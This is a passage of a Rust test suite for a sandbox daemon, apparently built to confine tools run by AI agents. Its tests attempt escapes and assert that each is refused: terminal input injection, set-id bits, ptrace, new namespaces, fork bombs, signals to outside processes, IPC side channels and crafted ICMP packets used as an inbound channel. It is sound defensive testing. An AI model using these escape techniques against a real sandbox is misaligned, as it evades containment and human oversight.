    assert_eq!(text(&out.stdout), "TOPSECRET\n");
}

#[test]
fn escape_no_call_leaves_a_set_id_program_even_with_chmod_allowed() {
    if !support::privileged("escape_no_call_leaves_a_set_id_program_even_with_chmod_allowed") {
        return;
    }
    use std::os::unix::fs::MetadataExt as _;
    // A program of guard-tool's with the set-user-ID bit would run as guard-tool for anyone on
    // the host, outside every call. The policy allows changing modes by name (as a tool that
    // runs git or `chmod +x` must), which lifts nothing for these bits.
    let s = Setup::new();
    let ws = s.subdir("ws", 0o777);
    let policy = s
        .policy(&format!("write = [\"{}\"]", ws.display()), "")
        .replacen(
            "timeout = 20\n",
            "timeout = 20\nallow_syscalls = [\"chmod\", \"fchmodat\", \"fchmodat2\"]\n",
            1,
        );
    let guardd = Guardd::start(&policy);
    let prog = ws.join("prog");
    let prog_s = prog.display().to_string();
    // Control: by name and through the descriptor, any other mode goes through.
    let out = call(
        &guardd,
        &[
            "write", &prog_s, "x", "--", "fchmod", &prog_s, "700", "--", "chmod", &prog_s, "755",
        ],
    );
    assert_ok(&out);
    assert_eq!(fs::metadata(&prog).expect("stat").mode() & 0o7777, 0o755);
    for action in [
        ["fchmod", prog_s.as_str(), "4755"],
        ["chmod", prog_s.as_str(), "2755"],
        ["chmod-empty-path", prog_s.as_str(), "6755"],
    ] {
        let out = call(&guardd, &action);
        assert_errno(&out, "EPERM");
    }
    assert_eq!(
        fs::metadata(&prog).expect("stat").mode() & 0o7777,
        0o755,
        "a set-id bit was set"
    );
}

/// A pseudo-terminal: (master, slave), as a terminal a caller runs guard-exec in.
fn pty() -> (std::os::fd::OwnedFd, std::os::fd::OwnedFd) {
    use std::os::fd::FromRawFd as _;
    let (mut master, mut slave) = (-1, -1);
    // SAFETY: openpty writes two descriptors; the name, termios and winsize are not asked for.
    let rc = unsafe {
        libc::openpty(
            &mut master,
            &mut slave,
            std::ptr::null_mut(),
            std::ptr::null(),
            std::ptr::null(),
        )
    };
    assert_eq!(rc, 0, "openpty: {}", std::io::Error::last_os_error());
    // SAFETY: both descriptors were just opened and are owned here alone.
    unsafe {
        (
            std::os::fd::OwnedFd::from_raw_fd(master),
            std::os::fd::OwnedFd::from_raw_fd(slave),
        )
    }
}

/// Whether the terminal `fd` echoes, and its line discipline.
fn terminal_state(fd: &std::os::fd::OwnedFd) -> (bool, libc::c_int) {
    use std::os::fd::AsRawFd as _;
    // SAFETY: termios is plain data, valid when zeroed; both calls write into locals.
    unsafe {
        let mut t: libc::termios = std::mem::zeroed();
        assert_eq!(libc::tcgetattr(fd.as_raw_fd(), &mut t), 0, "tcgetattr");
        let mut disc: libc::c_int = -1;
        assert_eq!(libc::ioctl(fd.as_raw_fd(), libc::TIOCGETD, &mut disc), 0);
        (t.c_lflag & libc::ECHO != 0, disc)
    }
}

#[test]
fn escape_the_caller_s_terminal_keeps_its_state() {
    if !support::privileged("escape_the_caller_s_terminal_keeps_its_state") {
        return;
    }
    let s = Setup::new();
    let guardd = Guardd::start(&s.policy("", ""));
    let (_master, slave) = pty();
    let before = terminal_state(&slave);
    assert!(before.0, "a new terminal echoes");
    // guard-exec hands the tool its own stdio: here, the caller's terminal as stdin. The tool
    // may read its state (control), not change it for the caller: termios, line discipline.
    for (action, errno) in [("tty-echo-off", "EPERM"), ("tty-setd", "EPERM")] {
        let mut cmd = guardd.exec("tt", &[&format!("a0={action}")]);
        cmd.stdin(std::process::Stdio::from(slave.try_clone().expect("dup")))
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped());
        let child = {
            let _forking = support::FORK_LOCK.read().unwrap_or_else(|e| e.into_inner());
            cmd.spawn().expect("spawn")
        };
        let out = child.wait_with_output().expect("wait");
        assert!(text(&out.stdout).starts_with("echo true\n"), "{out:?}");
        assert_errno(&out, errno);
        assert_eq!(
            terminal_state(&slave),
            before,
            "{action} changed the terminal"
        );
    }
}

/// What the terminal `slave` has for its next reader, without waiting.
fn pending_input(slave: &std::os::fd::OwnedFd) -> String {
    use std::os::fd::AsRawFd as _;
    let mut buf = [0u8; 256];
    // SAFETY: a non-blocking read into a buffer of its length, on a descriptor this test owns.
    let n = unsafe {
        let fd = slave.as_raw_fd();
        let flags = libc::fcntl(fd, libc::F_GETFL);
        libc::fcntl(fd, libc::F_SETFL, flags | libc::O_NONBLOCK);
        let n = libc::read(fd, buf.as_mut_ptr().cast(), buf.len());
        libc::fcntl(fd, libc::F_SETFL, flags);
        n
    };
    usize::try_from(n).map_or_else(|_| String::new(), |n| text(&buf[..n]))
}

#[test]
fn escape_the_caller_s_terminal_is_not_taken_over() {
    if !support::privileged("escape_the_caller_s_terminal_is_not_taken_over") {
        return;
    }
    use std::os::unix::process::CommandExt as _;
    let s = Setup::new();
    let guardd = Guardd::start(&s.policy("", ""));
    // A terminal that is no session's controlling one, as an agent harness's `openpty` leaves
    // it: a process with a session of its own may take it and type into it.
    let (_master, slave) = pty();
    let on_the_terminal = |mut cmd: std::process::Command| {
        cmd.stdin(std::process::Stdio::from(slave.try_clone().expect("dup")))
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped());
        let child = {
            let _forking = support::FORK_LOCK.read().unwrap_or_else(|e| e.into_inner());
            cmd.spawn().expect("spawn")
        };
        child.wait_with_output().expect("wait")
    };
    // Control: the tool outside guard, in a session of its own as guard gives it, does.
    let mut bare = std::process::Command::new(&s.tool);
    bare.args(["tty-inject", "echo INJECTED\n"]);
    // SAFETY: setsid is async-signal-safe.
    unsafe { bare.pre_exec(|| nix::unistd::setsid().map(drop).map_err(Into::into)) };
    let out = on_the_terminal(bare);
    assert_eq!(text(&out.stdout), "injected\n", "{out:?}");
    assert_eq!(pending_input(&slave), "echo INJECTED\n");

    let out = on_the_terminal(guardd.exec("tt", &["a0=tty-inject", "a1=echo INJECTED\n"]));
    assert_errno(&out, "EPERM");
    assert_eq!(
        pending_input(&slave),
        "",
        "the call typed into the caller's terminal"
    );
}

#[test]
fn escape_the_caller_s_stdio_keeps_its_flags() {
    if !support::privileged("escape_the_caller_s_stdio_keeps_its_flags") {
        return;
    }
    use std::os::fd::AsRawFd as _;
    let s = Setup::new();
    let guardd = Guardd::start(&s.policy("", ""));
    // The caller's stdin: a pipe whose read end the caller (here, the test) shares with the
    // tool, as an agent's shell shares its terminal or pipe.
    let (read, _write) = std::io::pipe().expect("pipe");
    let flags = || {
        // SAFETY: F_GETFL on a descriptor this test owns.
        unsafe { libc::fcntl(read.as_raw_fd(), libc::F_GETFL) }
    };
    assert_eq!(flags() & libc::O_NONBLOCK, 0);
    let mut cmd = guardd.exec("tt", &["a0=nonblock-stdin"]);
    cmd.stdin(std::process::Stdio::from(read.try_clone().expect("dup")))
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    let child = {
        let _forking = support::FORK_LOCK.read().unwrap_or_else(|e| e.into_inner());
        cmd.spawn().expect("spawn")
    };
    let out = child.wait_with_output().expect("wait");
    // The tool may set it on its own stdin (the control: it ran, and did); the caller's
    // descriptor has its flags back once the call has ended.
    assert_ok(&out);
    assert_eq!(text(&out.stdout), "nonblock\n");
    assert_eq!(
        flags() & libc::O_NONBLOCK,
        0,
        "the caller's stdin stayed non-blocking"
    );
}

#[test]
fn escape_ptrace_of_a_sibling_is_refused() {
    if !support::privileged("escape_ptrace_of_a_sibling_is_refused") {
        return;
    }
    let s = Setup::new();
    let guardd = Guardd::start(&s.policy("", ""));
    assert_ok(&call(&guardd, &["kill", "child", "9"]));
    // seccomp denies ptrace and process_vm_readv/writev.
    assert_errno(&call(&guardd, &["ptrace-sibling"]), "EPERM");
    let out = call(
        &guardd,
        &["syscall", &libc::SYS_process_vm_readv.to_string(), "1"],
    );
    assert_ok(&out);
    assert!(text(&out.stdout).contains("errno EPERM"), "{out:?}");
}

#[test]
fn escape_new_namespaces_are_refused() {
    if !support::privileged("escape_new_namespaces_are_refused") {
        return;
    }
    let s = Setup::new();
    let guardd = Guardd::start(&s.policy("", ""));
    // Control: a plain fork.
    assert_ok(&call(&guardd, &["fork", "1"]));
    assert_errno(&call(&guardd, &["unshare-user"]), "EPERM");
    // clone(2) with namespace flags: each is refused by seccomp's argument check.
    let sigchld = libc::SIGCHLD as i64;
    for flag in [
        libc::CLONE_NEWUSER,
        libc::CLONE_NEWNET,
        libc::CLONE_NEWNS,
        libc::CLONE_NEWPID,
        libc::CLONE_NEWCGROUP,
    ] {
        let flags = format!("{:#x}", i64::from(flag) | sigchld);
        let out = call(&guardd, &["syscall", &libc::SYS_clone.to_string(), &flags]);
        assert_ok(&out);
        assert!(
            text(&out.stdout).contains("errno EPERM"),
            "clone {flags}: {out:?}"
        );
    }
    // clone3 hides its flags from seccomp, so it is answered ENOSYS (libc falls back to clone).
    let out = call(
        &guardd,
        &["syscall", &libc::SYS_clone3.to_string(), "0", "0"],
    );
    assert!(text(&out.stdout).contains("errno ENOSYS"), "{out:?}");
    let out = call(
        &guardd,
        &["syscall", &libc::SYS_setns.to_string(), "0", "0"],
    );
    assert!(text(&out.stdout).contains("errno EPERM"), "{out:?}");
}

#[test]
fn escape_moving_into_another_cgroup_is_refused() {
    if !support::privileged("escape_moving_into_another_cgroup_is_refused") {
        return;
    }
    let s = Setup::new();
    let guardd = Guardd::start(&s.policy("on_divergence = \"deny\"", ""));
    assert_ok(&call(&guardd, &["ids"]));
    let root = guard::sandbox::cgroup::unified_mount().expect("cgroup v2");
    // Leaving the call's cgroup would leave the eBPF programs' watch and the pids limit.
    // landlock grants nothing under /sys, and the files are root's (DAC) as well.
    for procs in [
        root.join("cgroup.procs"),
        root.join(&guardd.cgroup).join("cgroup.procs"),
    ] {
        let out = call(&guardd, &["write", &procs.display().to_string(), "0"]);
        assert_errno(&out, "EACCES|EROFS");
        assert_write_attempt(&guardd, &procs.display().to_string());
    }
}

#[test]
fn escape_setuid_binaries_do_not_gain_privileges() {
    if !support::privileged("escape_setuid_binaries_do_not_gain_privileges") {
        return;
    }
    let s = Setup::new();
    let suid = s.dir.join("suid-testtool");
    fs::copy(&s.tool, &suid).expect("copy");
    fs::set_permissions(&suid, fs::Permissions::from_mode(0o4755)).expect("chmod 4755");
    let guardd = Guardd::start(&s.policy(&format!("exec = [\"{}\"]", suid.display()), ""));
    let user = nix::unistd::User::from_name("guard-tool")
        .expect("lookup")
        .expect("guard-tool exists");
    // The approved setuid-root program runs (the control), but no_new_privs keeps its
    // effective uid: the set-user-ID bit is ignored.
    let out = call(&guardd, &["exec", &suid.display().to_string(), "ids"]);
    assert_ok(&out);
    assert_eq!(
        text(&out.stdout),
        format!("ruid={0} euid={0}\n", user.uid),
        "{out:?}"
    );
}

#[test]
fn escape_a_fork_bomb_meets_the_pids_limit() {
    if !support::privileged("escape_a_fork_bomb_meets_the_pids_limit") {
        return;
    }
    let s = Setup::new();
    let guardd = Guardd::start(&s.policy("", "[tools.tt.limits]\npids = 8\n"));
    assert_ok(&call(&guardd, &["fork", "2"]));
    let out = call(&guardd, &["fork", "200"]);
    assert_errno(&out, "EAGAIN");
    let forked = text(&out.stdout)
        .lines()
        .filter(|l| l.starts_with("forked "))
        .count();
    assert!(forked < 8, "forked {forked} with pids = 8");
    assert_eq!(call_cgroups(&guardd), 0, "the call's cgroup outlived it");
}

#[test]
fn escape_a_double_forked_daemon_dies_with_the_call() {
    if !support::privileged("escape_a_double_forked_daemon_dies_with_the_call") {
        return;
    }
    let s = Setup::new();
    let guardd = Guardd::start(&s.policy("", ""));
    let out = call(&guardd, &["daemonize", "60"]);
    // The call itself succeeds: its main process exits 0 after the grandchild is on its own.
    assert_ok(&out);
    let token = text(&out.stdout);
    let token = token
        .trim()
        .strip_prefix("daemonized ")
        .expect("daemonized <pid>");
    let pid = support::host_pid(token);
    // The cgroup: when the call ends, everything in it is killed and the cgroup removed.
    assert!(
        support::dead(pid, Duration::from_secs(5)),
        "the double-forked grandchild {pid} outlived the call"
    );
    assert_eq!(call_cgroups(&guardd), 0, "the call's cgroup outlived it");
}

/// A `sleep 30` running as `guard-tool` outside any call: only landlock's signal scope, not
/// DAC, stands between it and a confined tool.
fn same_user_victim() -> std::process::Child {
    let user = nix::unistd::User::from_name("guard-tool")
        .expect("lookup")
        .expect("guard-tool exists");
    let (uid, gid) = (user.uid.as_raw(), user.gid.as_raw());
    let mut cmd = Command::new("sleep");
    cmd.arg("30");
    // SAFETY: setgroups/setgid/setuid between fork and exec are async-signal-safe.
    unsafe {
        cmd.pre_exec(move || {
            if libc::setgroups(0, std::ptr::null()) < 0
                || libc::setgid(gid) < 0
                || libc::setuid(uid) < 0
            {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let _forking = support::FORK_LOCK.read().unwrap_or_else(|e| e.into_inner());
    cmd.spawn().expect("sleep as guard-tool")
}

#[test]
fn escape_signals_reach_no_process_outside_the_call() {
    if !support::privileged("escape_signals_reach_no_process_outside_the_call") {
        return;
    }
    let s = Setup::new();
    let guardd = Guardd::start(&s.policy("", ""));
    let mut victim = Command::new("sleep").arg("30").spawn().expect("sleep");
    let pid = victim.id().to_string();
    // Control: the tool may signal its own child.
    assert_ok(&call(&guardd, &["kill", "child", "15"]));
    // Processes of another user (the test's, guardd): outside the call's pid namespace no
    // pid names them (ESRCH); landlock's signal scope and DAC stand behind it.
    assert_errno(&call(&guardd, &["kill", &pid, "9"]), "ESRCH");
    assert_errno(
        &call(&guardd, &["kill", &guardd.child.id().to_string(), "15"]),
        "ESRCH",
    );
    assert!(
        victim.try_wait().expect("try_wait").is_none(),
        "the victim was signalled"
    );
    let _ = victim.kill();
    let _ = victim.wait();
    // A process of guard-tool itself, outside the call, which DAC would let it signal: the pid
    // namespace, and behind it landlock's signal scope (ABI 6).
    let mut victim = same_user_victim();
    let pid = victim.id().to_string();
    assert_errno(&call(&guardd, &["kill", &pid, "9"]), "ESRCH");
    assert!(
        victim.try_wait().expect("try_wait").is_none(),
        "the same-user victim was signalled"
    );
    let _ = victim.kill();
    let _ = victim.wait();
}

/// A process's open-files limit and nice value, from /proc.
fn limits_and_nice(pid: u32) -> (String, String) {
    let limits = fs::read_to_string(format!("/proc/{pid}/limits")).expect("limits");
    let files = limits
        .lines()
        .find(|l| l.starts_with("Max open files"))
        .expect("open files")
        .to_owned();
    (files, support::stat_field(pid, 19))
}

/// Whether System V shared memory segment `key` exists in the host's IPC namespace; removes it
/// if it does.
fn host_shm_segment(key: libc::key_t) -> bool {
    // SAFETY: integer arguments; IPC_RMID on a segment found just now.
    unsafe {
        let id = libc::shmget(key, 0, 0);
        if id >= 0 {
            libc::shmctl(id, libc::IPC_RMID, std::ptr::null_mut());
        }
        id >= 0
    }
}

#[test]
fn escape_a_root_tool_has_only_the_capabilities_its_policy_names() {
    if !support::privileged("escape_a_root_tool_has_only_the_capabilities_its_policy_names") {
        return;
    }
    // A tool run as root would keep root's capabilities through every other layer: raise the
    // call's hard limits, reconfigure the host's network, set its clock, raise its priority
    // over the host's processes (CAP_SYS_NICE).
    let s = Setup::new();
    let root = |caps: &str| {
        let run_as = format!("timeout = 20\nrun_as = \"root\"\ncapabilities = [{caps}]");
        s.policy("", "").replacen("timeout = 20", &run_as, 1)
    };
    let none = "0000000000000000";
    let guardd = Guardd::start(&root(""));
    let out = call(&guardd, &["caps"]);
    assert_ok(&out);
    assert_eq!(
        text(&out.stdout),
        format!("CapInh:{none} CapPrm:{none} CapEff:{none} CapBnd:{none} CapAmb:{none}\n")
    );
    assert_errno(&call(&guardd, &["nice-raise"]), "EACCES");
    drop(guardd);

    let guardd = Guardd::start(&root("\"CAP_SYS_NICE\""));
    assert_ok(&call(&guardd, &["nice-raise"]));
    // The finished row says what it kept.
    let finished = guardd
        .audit_rows()
        .into_iter()
        .rfind(|r| r["kind"] == "finished")
        .expect("a finished row");
    assert_eq!(finished["sandbox"]["uid"], 0);
    assert_eq!(
        finished["sandbox"]["capabilities"],
        serde_json::json!(["CAP_SYS_NICE"])
    );
}

#[test]
fn escape_a_call_reaches_no_other_call_s_processes_or_ipc_objects() {
    if !support::privileged("escape_a_call_reaches_no_other_call_s_processes_or_ipc_objects") {
        return;
    }
    // Calls run side by side as one user, guard-tool, and so do judges and approvers: DAC
    // lets one lower another's limits or priority, and System V IPC objects of that user are
    // shared by all of them and outlive the call that made them, a channel from a call that
    // may read a secret to one that may send it.
    let s = Setup::new();
    let guardd = Guardd::start(&s.policy("", ""));
    // Controls: its own child, its own segment.
    assert_ok(&call(&guardd, &["prlimit", "child"]));
    let out = call(
        &guardd,
        &["shm-put", "0x4755", "secret", "--", "shm-get", "0x4755"],
    );
    assert_ok(&out);
    assert_eq!(text(&out.stdout), "shm put 0x4755\nshm secret\n");
    assert!(!host_shm_segment(0x4755), "the call's segment outlived it");

    // Another process of guard-tool: its pid means nothing inside the call.
    let mut victim = same_user_victim();
    let pid = victim.id();
    let before = limits_and_nice(pid);
    assert_errno(&call(&guardd, &["prlimit", &pid.to_string()]), "ESRCH");
    assert_ok(&call(&guardd, &["renice-user", "19"]));
    assert_eq!(limits_and_nice(pid), before, "the victim was changed");
    let _ = victim.kill();
    let _ = victim.wait();

    // A segment one call leaves behind is not there for the next.
    assert_ok(&call(&guardd, &["shm-put", "0x4756", "secret"]));
    assert_errno(&call(&guardd, &["shm-get", "0x4756"]), "ENOENT");
    assert!(!host_shm_segment(0x4756), "the call's segment outlived it");
}

#[test]
fn escape_no_process_of_a_call_outlives_a_guardd_killed_under_it() {
    if !support::privileged("escape_no_process_of_a_call_outlives_a_guardd_killed_under_it") {
        return;
    }
    // With guardd gone nothing watches a call: the tool dies with it (its parent-death
    // signal), and so do its children, who have none (the kernel kills the rest of a pid
    // namespace whose pid 1 exits).
    let s = Setup::new();
    let mut guardd = Guardd::start(&s.policy("", ""));
    let _forking = support::FORK_LOCK.read().unwrap_or_else(|e| e.into_inner());
    let mut caller = guardd
        .exec("tt", &["a0=fork", "a1=2", "a2=--", "a3=sleep", "a4=60"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("guard-exec");
    drop(_forking);
    let mut lines = std::io::BufRead::lines(std::io::BufReader::new(
        caller.stdout.take().expect("stdout"),
    ));
    let mut pids: Vec<u32> = (0..2)
        .map(|_| {
            let line = lines.next().expect("a line").expect("read");
            let token = line.split_whitespace().nth(2);
            support::host_pid(token.unwrap_or_else(|| panic!("forked <i> <pid>: {line:?}")))
        })
        .collect();
    let running = output(guardd.ctl(&["calls", "--running", "--json"]));
    let call: serde_json::Value =
        serde_json::from_slice(&running.stdout).expect("one running call");
    pids.push(call["pid"].as_u64().expect("pid") as u32);
    // Control: all three run.
    assert!(
        pids.iter().all(|&p| !support::dead(p, Duration::ZERO)),
        "{pids:?}"
    );
    guardd.crash();
    let survivors: Vec<u32> = pids
        .into_iter()
        .filter(|&p| !support::dead(p, Duration::from_secs(5)))
        .collect();
    // The next guardd sweeps the cgroups the dead one left (and so what survived).
    guardd.start_again();
    assert!(survivors.is_empty(), "{survivors:?} outlived guardd");
    let _ = caller.wait();
}

/// Starts `actions` as a call whose output is read line by line; returns the caller and the
/// first line (the tool says it is ready).
pub(super) fn started(
    guardd: &Guardd,
    actions: &[&str],
) -> (
    std::process::Child,
    std::io::Lines<std::io::BufReader<std::process::ChildStdout>>,
    String,
) {
    let pairs: Vec<String> = (actions.iter().enumerate())
        .map(|(i, a)| format!("a{i}={a}"))
        .collect();
    let pairs: Vec<&str> = pairs.iter().map(String::as_str).collect();
    let mut caller = {
        let _forking = support::FORK_LOCK.read().unwrap_or_else(|e| e.into_inner());
        guardd
            .exec("tt", &pairs)
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .expect("guard-exec")
    };
    let mut lines = std::io::BufRead::lines(std::io::BufReader::new(
        caller.stdout.take().expect("stdout"),
    ));
    let first = lines.next().and_then(Result::ok).unwrap_or_default();
    (caller, lines, first)
}

/// A TCP connection to 127.0.0.1:`port` from 127.0.0.1:`from` (0: any port), within a second;
/// the errno it failed with.
pub(super) fn tcp_from(from: u16, port: u16) -> Result<(), i32> {
    let addr = |port: u16| libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: port.to_be(),
        sin_addr: libc::in_addr {
            s_addr: u32::from_ne_bytes([127, 0, 0, 1]),
        },
        sin_zero: [0; 8],
    };
    let len = std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t;
    let errno = || std::io::Error::last_os_error().raw_os_error().unwrap_or(0);
    // SAFETY: plain socket calls on an fd made here and closed at the end; every pointer is to
    // a value on this stack that outlives the call it is passed to.
    unsafe {
        let fd = libc::socket(libc::AF_INET, libc::SOCK_STREAM | libc::SOCK_NONBLOCK, 0);
        let one: libc::c_int = 1;
        let (from, to) = (addr(from), addr(port));
        let result = if fd < 0
            || libc::setsockopt(
                fd,
                libc::SOL_SOCKET,
                libc::SO_REUSEADDR,
                (&raw const one).cast(),
                4,
            ) < 0
            || libc::bind(fd, (&raw const from).cast(), len) < 0
            || (libc::connect(fd, (&raw const to).cast(), len) < 0 && errno() != libc::EINPROGRESS)
        {
            Err(errno())
        } else {
            let mut pfd = libc::pollfd {
                fd,
                events: libc::POLLOUT,
                revents: 0,
            };
            let mut err: libc::c_int = 0;
            let mut err_len = 4 as libc::socklen_t;
            if libc::poll(&mut pfd, 1, 1000) == 0 {
                Err(libc::ETIMEDOUT)
            } else if libc::getsockopt(
                fd,
                libc::SOL_SOCKET,
                libc::SO_ERROR,
                (&raw mut err).cast(),
                &mut err_len,
            ) < 0
            {
                Err(errno())
            } else if err != 0 {
                Err(err)
            } else {
                Ok(())
            }
        };
        libc::close(fd);
        result
    }
}

#[test]
fn escape_nothing_reaches_a_call_from_a_peer_it_did_not_declare() {
    if !support::privileged("escape_nothing_reaches_a_call_from_a_peer_it_did_not_declare") {
        return;
    }
    // connect effects say where a call may send; until now anyone could send to it: on a UDP
    // port it bound (landlock governs TCP binds only) or a TCP port `listen` picked without a
    // bind (landlock sees explicit binds only), an inbound channel no effect declares.
    let s = Setup::new();
    let guardd = Guardd::start(&s.policy(r#"connect = ["127.0.0.1:9"]"#, ""));
    let receipt = |caller: std::process::Child, lines: std::io::Lines<_>| {
        let rest: Vec<String> = lines.map_while(Result::ok).collect();
        let out = caller.wait_with_output().expect("guard-exec");
        let row = guardd
            .audit_rows()
            .into_iter()
            .rev()
            .find(|r| r["kind"] == "finished")
            .expect("a finished row");
        (out, rest, row)
    };

    // UDP: bound (to a port the kernel picks), then datagrams from elsewhere for two seconds;
    // none arrives.
    let (caller, lines, first) = started(&guardd, &["udp-recv", "0", "3"]);
    let port: u16 = first
        .strip_prefix("bound ")
        .and_then(|p| p.parse().ok())
        .unwrap_or_else(|| panic!("the control: the call bound a port: {first:?}"));
    let sender = std::net::UdpSocket::bind("127.0.0.1:0").expect("udp");
    for _ in 0..20 {
        sender.send_to(b"hello", ("127.0.0.1", port)).expect("send");
        std::thread::sleep(Duration::from_millis(100));
    }
    let (out, rest, row) = receipt(caller, lines);
    assert!(rest.is_empty(), "it received: {rest:?}");
    assert!(text(&out.stderr).contains("ERR EAGAIN"), "{out:?}");
    let seen = &row["effects_observed"];
    assert!(seen["inbound_dropped"].as_u64() >= Some(20), "{seen:#}");
    assert_eq!(seen["verdict"], "conformed", "{seen:#}");

    // A port of its own choosing it does not get: the ingress drop makes a held port answer a
    // prober differently from a closed one, so the ports a call holds would spell out a message
    // to anyone who can reach the host.
    let out = call(&guardd, &["udp-recv", "5599", "1"]);
    // Killed for it (perhaps while it was still saying so), unless it exited on the refusal
    // before guardd read the report.
    match out.status.code() {
        Some(137) => {}
        Some(1) => assert!(text(&out.stderr).starts_with("ERR EPERM "), "{out:?}"),
        _ => panic!("neither refused nor killed: {out:?}"),
    }
    let row = guardd
        .audit_rows()
        .into_iter()
        .rev()
        .find(|r| r["kind"] == "finished")
        .expect("a finished row");
    let seen = &row["effects_observed"];
    assert_eq!(seen["verdict"], "diverged", "{seen:#}");
    assert_eq!(seen["denied"], 1, "{seen:#}");

    // TCP: a connection from elsewhere is never accepted; one from the approved 127.0.0.1:9
    // is (the same address and port the call may connect to).
    let (caller, lines, first) = started(&guardd, &["tcp-listen", "3"]);
    let port: u16 = first
        .strip_prefix("listening ")
        .and_then(|p| p.parse().ok())
        .unwrap_or_else(|| panic!("listening <port>: {first:?}"));
    assert_eq!(tcp_from(0, port), Err(libc::ETIMEDOUT));
    let (out, rest, row) = receipt(caller, lines);
    assert!(rest.is_empty(), "it accepted: {rest:?}");
    assert!(text(&out.stderr).contains("ERR ETIMEDOUT"), "{out:?}");
    assert!(row["effects_observed"]["inbound_dropped"].as_u64() >= Some(1));
    let (caller, lines, first) = started(&guardd, &["tcp-listen", "3"]);
    let port: u16 = first
        .strip_prefix("listening ")
        .and_then(|p| p.parse().ok())
        .unwrap_or_else(|| panic!("listening <port>: {first:?}"));
    assert_eq!(tcp_from(9, port), Ok(()));
    let (out, rest, _) = receipt(caller, lines);
    assert_eq!(rest, ["accepted"], "{out:?}");
}

/// The internet checksum of `data` (RFC 1071).
fn inet_checksum(data: &[u8]) -> u16 {
    let mut sum: u32 = data
        .chunks(2)
        .map(|w| u32::from(u16::from_be_bytes([w[0], w.get(1).copied().unwrap_or(0)])))
        .sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// Sends loopback an ICMP port unreachable (ICMPv6 with `v6`) from loopback, as the host a
/// datagram went to answers it: it quotes a datagram from loopback's `port` to port 9 that
/// carried `payload`. Anyone who can send the host a packet can send this one.
fn icmp_port_unreachable(v6: bool, port: u16, payload: &[u8]) {
    let mut udp = Vec::new();
    for word in [port, 9, (8 + payload.len()) as u16, 0] {
        udp.extend(word.to_be_bytes());
    }
    udp.extend(payload);
    let lo6 = std::net::Ipv6Addr::LOCALHOST.octets();
    let lo4 = std::net::Ipv4Addr::LOCALHOST.octets();
    let mut msg;
    if v6 {
        // Destination unreachable, port unreachable; the kernel sums ICMPv6 itself.
        msg = vec![1, 4, 0, 0, 0, 0, 0, 0, 0x60, 0, 0, 0];
        msg.extend((udp.len() as u16).to_be_bytes());
        msg.extend([libc::IPPROTO_UDP as u8, 64]);
        msg.extend(lo6.iter().chain(&lo6));
    } else {
        msg = vec![3, 3, 0, 0, 0, 0, 0, 0, 0x45, 0];
        msg.extend(((20 + udp.len()) as u16).to_be_bytes());
        msg.extend([0, 0, 0, 0, 64, libc::IPPROTO_UDP as u8, 0, 0]);
        msg.extend(lo4.iter().chain(&lo4));
    }
    msg.extend(&udp);
    if !v6 {
        let sum = inet_checksum(&msg);
        msg[2..4].copy_from_slice(&sum.to_be_bytes());
    }
    // SAFETY: a raw socket made here and closed at the end; the addresses and the message
    // live on this stack across the calls they are passed to.
    let sent = unsafe {
        let (family, proto) = if v6 {
            (libc::AF_INET6, libc::IPPROTO_ICMPV6)
        } else {
            (libc::AF_INET, libc::IPPROTO_ICMP)
        };
        let fd = libc::socket(family, libc::SOCK_RAW | libc::SOCK_CLOEXEC, proto);
        assert!(fd >= 0, "raw socket: {}", std::io::Error::last_os_error());
        let mut to4: libc::sockaddr_in = std::mem::zeroed();
        to4.sin_family = libc::AF_INET as libc::sa_family_t;
        to4.sin_addr.s_addr = u32::from_ne_bytes(lo4);
        let mut to6: libc::sockaddr_in6 = std::mem::zeroed();
        to6.sin6_family = libc::AF_INET6 as libc::sa_family_t;
        to6.sin6_addr.s6_addr = lo6;
        let (to, len): (*const libc::sockaddr, usize) = if v6 {
            ((&raw const to6).cast(), size_of::<libc::sockaddr_in6>())
        } else {
            ((&raw const to4).cast(), size_of::<libc::sockaddr_in>())
        };
        let n = libc::sendto(
            fd,
            msg.as_ptr().cast(),
            msg.len(),
            0,
            to,
            len as libc::socklen_t,
        );
        let err = std::io::Error::last_os_error();
        libc::close(fd);
        usize::try_from(n).map_err(|_| err)
    };
    assert_eq!(sent.expect("send the ICMP error"), msg.len());
}

/// Runs `tool` (`udp-recverr`), sends the port its first line names ICMP errors carrying
/// `payload` for a second, and returns its first line with the port left out, and the rest.
fn icmp_errors_to(mut tool: Command, v6: bool, payload: &[u8]) -> (String, Vec<String>, Output) {
    let mut child = {
        let _forking = support::FORK_LOCK.read().unwrap_or_else(|e| e.into_inner());
        tool.stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .expect("spawn")
    };
    let mut lines = std::io::BufRead::lines(std::io::BufReader::new(
        child.stdout.take().expect("stdout"),
    ));
    let first = lines.next().and_then(Result::ok).unwrap_or_default();
    let (port, said) = first
        .strip_prefix("port ")
        .and_then(|rest| rest.split_once(' '))
        .and_then(|(port, said)| Some((port.parse::<u16>().ok()?, said.to_owned())))
        .unwrap_or_else(|| panic!("port P ...: {first:?}"));
    for _ in 0..10 {
        icmp_port_unreachable(v6, port, payload);
        std::thread::sleep(Duration::from_millis(100));
    }
    let rest = lines.map_while(Result::ok).collect();
    (said, rest, child.wait_with_output().expect("wait"))
}

#[test]
fn escape_an_icmp_error_carries_nothing_into_a_call() {
    if !support::privileged("escape_an_icmp_error_carries_nothing_into_a_call") {
        return;
    }
    // The ingress program drops every packet for a call's sockets from anyone but an approved
    // destination; an ICMP error is delivered to the socket it quotes without it. A socket
    // that asked for its error queue (IP_RECVERR, IPV6_RECVERR) got the quoted datagram's
    // payload there, bytes of the sender's choosing: an inbound channel from anyone who can
    // send the host a packet, on any call with a connect effect.
    let s = Setup::new();
    let guardd = Guardd::start(&s.policy(r#"connect = ["127.0.0.1:9"]"#, ""));
    let payload = b"INBOUND-FROM-ANYONE";
    let heard = format!("errqueue {}", String::from_utf8_lossy(payload));
    for (v6, family) in [(false, "4"), (true, "6")] {
